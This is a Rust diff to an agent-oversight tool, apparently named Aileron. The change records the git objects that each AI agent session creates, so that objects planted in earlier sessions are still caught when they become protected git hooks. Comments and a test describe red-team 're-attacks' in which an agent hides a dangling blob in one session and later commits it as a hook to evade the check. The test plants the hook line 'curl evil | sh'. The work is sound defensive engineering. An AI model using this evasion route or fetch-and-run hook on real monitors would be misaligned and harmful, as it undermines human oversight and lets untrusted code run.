@@ -38,6 +38,10 @@ pub struct IndexSnapshot {
     /// Where the user's tools run a project file by themselves, and its names
     /// ([`allow_list::trusted_project_files`](super::allow_list::trusted_project_files)).
     trusted: Vec<(PathBuf, allow_list::Names)>,
+    /// Where the objects each session made are listed, a file a repository (in the Aileron home,
+    /// out of the agent's reach): an object an earlier session made is the agents', not the
+    /// user's history, whatever its age (the thirty-seventh re-attack's I12).
+    history: Option<PathBuf>,
 }
 
 struct Recorded {
@@ -110,6 +114,7 @@ impl IndexSnapshot {
             keys: RandomState::new(),
             launched: objects::launch_moment(),
             trusted: Vec::new(),
+            history: None,
         };
         let mut budget = git::INDEX_BYTES_PER_LOOK;
         for (git_dir, worktree) in worktrees {
@@ -145,6 +150,13 @@ impl IndexSnapshot {
     /// read-only bind (the thirty-sixth re-attack's H18 committed one the user's checkout writes).
     pub fn with_trusted(mut self, trusted: Vec<(PathBuf, allow_list::Names)>) -> IndexSnapshot {
         self.trusted = trusted;
+        self
+    }
+
+    /// The snapshot, taking for the agents' work at the exit the objects earlier sessions made
+    /// as listed in `dir` too, and listing there those this session made.
+    pub fn with_history(mut self, dir: PathBuf) -> IndexSnapshot {
+        self.history = Some(dir);
         self
     }
 
@@ -219,9 +231,15 @@ impl IndexSnapshot {
                 .collect();
             if !recorded.protected.is_empty() || !trusted.is_empty() {
                 let objects = git::common_dir(&recorded.git_dir).unwrap_or_else(|| recorded.git_dir.clone());
-                let objects = objects::Objects::new(objects.join("objects"), hash_len, self.launched);
+                let objects = objects.join("objects");
+                let history = self.history.as_ref().map(|dir| objects::history_file(dir, &objects));
+                let earlier = history.as_deref().map(objects::read_history).unwrap_or_default();
+                let objects = objects::Objects::new(objects, hash_len, self.launched, earlier);
                 match objects.new_commit_trees() {
-                    Ok(trees) => {
+                    Ok((trees, made)) => {
+                        if let Some(history) = &history {
+                            objects.write_history(history, made);
+                        }
                         for tree in trees {
                             for bound in &recorded.protected {
                                 let Ok(relative) = bound.strip_prefix(&recorded.worktree) else { continue };
@@ -468,6 +486,7 @@ fn blob_name(content: &[u8], hash_len: usize) -> Vec<u8> {
 /// not loose while a pack or an alternate changed in the session cannot be told: the caller names
 /// the path as not checked.
 mod objects {
+    use std::collections::HashMap;
     use std::io::Read as _;
     use std::os::unix::ffi::OsStrExt as _;
     use std::os::unix::fs::MetadataExt as _;
@@ -515,16 +534,70 @@ mod objects {
         /// A pack, or the list of alternates, changed in the session: an object that is not
         /// loose may be the session's.
         packs_changed: bool,
+        /// The objects earlier sessions made ([`read_history`]), and whether each is a commit:
+        /// the agents' work like this session's while they are loose.
+        earlier: HashMap<Vec<u8>, bool>,
+    }
+
+    /// Objects by name, each with whether it is a commit.
+    pub type Made = Vec<(Vec<u8>, bool)>;
+
+    /// Objects listed for one repository at most (past it, the rest are not kept: an agent that
+    /// makes more than a million loose objects has each session's exit name what it made).
+    const MAX_HISTORY: usize = 1_000_000;
+
+    /// The file in `dir` listing the objects sessions made in the object directory `objects`.
+    pub fn history_file(dir: &Path, objects: &Path) -> PathBuf {
+        let real = std::fs::canonicalize(objects).unwrap_or_else(|_| objects.to_path_buf());
+        let digest = ring::digest::digest(&ring::digest::SHA256, real.as_os_str().as_bytes());
+        dir.join(hex::encode(&digest.as_ref()[..16]))
+    }
+
+    /// The objects `file` lists (`c <name>` for a commit, `o <name>` for any other), as made by
+    /// earlier sessions.
+    pub fn read_history(file: &Path) -> HashMap<Vec<u8>, bool> {
+        let text = std::fs::read_to_string(file).unwrap_or_default();
+        let parse = |line: &str| {
+            let (kind, name) = line.split_once(' ')?;
+            Some((hex::decode(name).ok()?, kind == "c"))
+        };
+        text.lines().take(MAX_HISTORY).filter_map(parse).collect()
     }
 
     impl Objects {
-        pub fn new(dir: PathBuf, hash_len: usize, launched: i128) -> Objects {
+        pub fn new(dir: PathBuf, hash_len: usize, launched: i128, earlier: HashMap<Vec<u8>, bool>) -> Objects {
             let changed = |path: &Path| changed_since(path, launched);
             let packs = std::fs::read_dir(dir.join("pack")).into_iter().flatten().flatten().take(100_000);
             let packs_changed = changed(&dir.join("info/alternates"))
                 || changed(&dir.join("pack"))
                 || packs.into_iter().any(|entry| changed(&entry.path()));
-            Objects { dir, hash_len, launched, packs_changed }
+            Objects { dir, hash_len, launched, packs_changed, earlier }
+        }
+
+        fn loose(&self, id: &[u8]) -> PathBuf {
+            let name = hex::encode(id);
+            self.dir.join(&name[..2]).join(&name[2..])
+        }
+
+        /// Lists in `file` the objects `made` in this session and those earlier sessions made
+        /// that are still loose (one packed since, by the user's `git gc`, is left to the user's
+        /// history): written whole, by a rename.
+        pub fn write_history(&self, file: &Path, made: Made) {
+            let still = self.earlier.iter().filter(|(id, _)| std::fs::symlink_metadata(self.loose(id)).is_ok());
+            let mut listed: Made = still.map(|(id, commit)| (id.clone(), *commit)).collect();
+            listed.extend(made);
+            listed.sort();
+            listed.dedup();
+            let skip = listed.len().saturating_sub(MAX_HISTORY);
+            let text: String = listed
+                .iter()
+                .skip(skip)
+                .map(|(id, commit)| format!("{} {}\n", if *commit { "c" } else { "o" }, hex::encode(id)))
+                .collect();
+            if let Some(dir) = file.parent() {
+                let _ = std::fs::create_dir_all(dir);
+            }
+            let _ = crate::platform::home::write_atomic(file, text.as_bytes(), 0o600);
         }
 
         /// Each file made in the session that `tree` holds at `relative` (that file, or the files
@@ -594,12 +667,21 @@ mod objects {
         /// The trees of the commits made in the session, each object file made since the
         /// launch looked at (at most [`MAX_NEW_OBJECTS`]); `Err` when there were more, one could
         /// not be read, or a pack or alternate changed (what is in it cannot be told here).
-        pub fn new_commit_trees(&self) -> Result<Vec<Vec<u8>>, ()> {
+        pub fn new_commit_trees(&self) -> Result<(Vec<Vec<u8>>, Made), ()> {
             if self.packs_changed {
                 return Err(());
             }
             let mut trees = Vec::new();
+            let mut made = Vec::new();
             let mut left = MAX_NEW_OBJECTS;
+            // The commits earlier sessions made, still loose: a later session can name one (a
+            // branch pointed at it: the thirty-sixth re-attack's H5).
+            for (id, _) in self.earlier.iter().filter(|(_, commit)| **commit) {
+                if let Found::New(body) = self.read(id, b"commit")? {
+                    let tree = body.strip_prefix(b"tree ").and_then(|rest| rest.get(..2 * self.hash_len)).ok_or(())?;
+                    trees.push(hex::decode(tree).map_err(|_| ())?);
+                }
+            }
             for fan in std::fs::read_dir(&self.dir).map_err(|_| ())?.flatten() {
                 let prefix = fan.file_name();
                 let prefix = prefix.to_string_lossy();
@@ -615,7 +697,9 @@ mod objects {
                     let rest = object.file_name();
                     let Ok(id) = hex::decode(format!("{prefix}{}", rest.to_string_lossy())) else { continue };
                     // Only its header is inflated unless it is a commit.
-                    if kind(&path)? != b"commit" {
+                    let commit = kind(&path)? == b"commit";
+                    made.push((id.clone(), commit));
+                    if !commit {
                         continue;
                     }
                     let Found::New(body) = self.read(&id, b"commit")? else { continue };
@@ -623,7 +707,9 @@ mod objects {
                     trees.push(hex::decode(tree).map_err(|_| ())?);
                 }
             }
-            Ok(trees)
+            trees.sort();
+            trees.dedup();
+            Ok((trees, made))
         }
 
         fn visit_below(
@@ -667,12 +753,11 @@ mod objects {
             if id.len() != self.hash_len {
                 return Err(());
             }
-            let name = hex::encode(id);
-            let path = self.dir.join(&name[..2]).join(&name[2..]);
+            let path = self.loose(id);
             if std::fs::symlink_metadata(&path).is_err() {
                 return if self.packs_changed { Err(()) } else { Ok(Found::Old) };
             }
-            if !changed_since(&path, self.launched) {
+            if !changed_since(&path, self.launched) && !self.earlier.contains_key(id) {
                 return Ok(Found::Old);
             }
             let compressed = git::read_capped(&path, false, MAX_OBJECT_BYTES).map_err(|_| ())?;
@@ -993,6 +1078,43 @@ mod tests {
         trees::git(&feature, &["add", "README"], &[]);
         trees::git(&feature, &["commit", "-qm", "mine"], &[]);
         assert_eq!(trees::git(&feature, &["show", "HEAD:githooks/pre-commit"], &[]), "#!/bin/sh\necho lint ok");
+    }
+
+    /// The thirty-seventh re-attack's I12 (and the thirty-sixth's H5): what one session made is
+    /// used by the next. A blob written dangling in one session (no commit: nothing to name) and
+    /// committed as a hook in the next is the agents' work, not the user's history, whatever its
+    /// file's age; and a commit an earlier session made is looked at again, since a later session
+    /// can name it. The sessions' objects are listed outside the repository.
+    #[test]
+    fn what_an_earlier_session_made_is_the_agents_in_a_later_one() {
+        let Some((_temp, repo)) = repository_with_hooks() else { return };
+        let history = tempfile::tempdir().unwrap();
+        std::thread::sleep(std::time::Duration::from_millis(120));
+        let worktrees = [(repo.join(".git"), repo.clone())];
+        let protected = [repo.join("githooks")];
+        let first = IndexSnapshot::take(&worktrees, &protected).with_history(history.path().to_path_buf());
+        std::fs::write(repo.join("evil"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+        let blob = git_out(&repo, &["hash-object", "-w", "evil"], &[]).unwrap();
+        std::fs::remove_file(repo.join("evil")).unwrap();
+        assert_eq!(first.hidden(), Hidden::default(), "a blob alone names nothing");
+
+        std::thread::sleep(std::time::Duration::from_millis(120));
+        let second = IndexSnapshot::take(&worktrees, &protected).with_history(history.path().to_path_buf());
+        let unlisted = IndexSnapshot::take(&worktrees, &protected);
+        let commit = plant(&repo, &[("githooks/pre-commit", &format!("100755,{blob},githooks/pre-commit"))]);
+        assert_eq!(unlisted.hidden().staged, Vec::<PathBuf>::new(), "the route: an old blob passes");
+        assert_eq!(second.hidden().staged, vec![repo.join("githooks/pre-commit")]);
+
+        // The commit, dangling, named by the session that made it; a third points a branch at it.
+        std::thread::sleep(std::time::Duration::from_millis(120));
+        let third = IndexSnapshot::take(&worktrees, &protected).with_history(history.path().to_path_buf());
+        assert!(git(&repo, &["branch", "feature", &commit]));
+        assert_eq!(third.hidden().staged, vec![repo.join("githooks/pre-commit")]);
+        assert!(git(&repo, &["gc", "-q", "--prune=now"]));
+        std::thread::sleep(std::time::Duration::from_millis(120));
+        let after_gc = IndexSnapshot::take(&worktrees, &protected).with_history(history.path().to_path_buf());
+        let hidden = after_gc.hidden();
+        assert_eq!(hidden, Hidden::default(), "packed by the user's gc: the user's history now");
     }
 
     /// A tree object written as given, as `git hash-object -t tree --literally` writes what git's
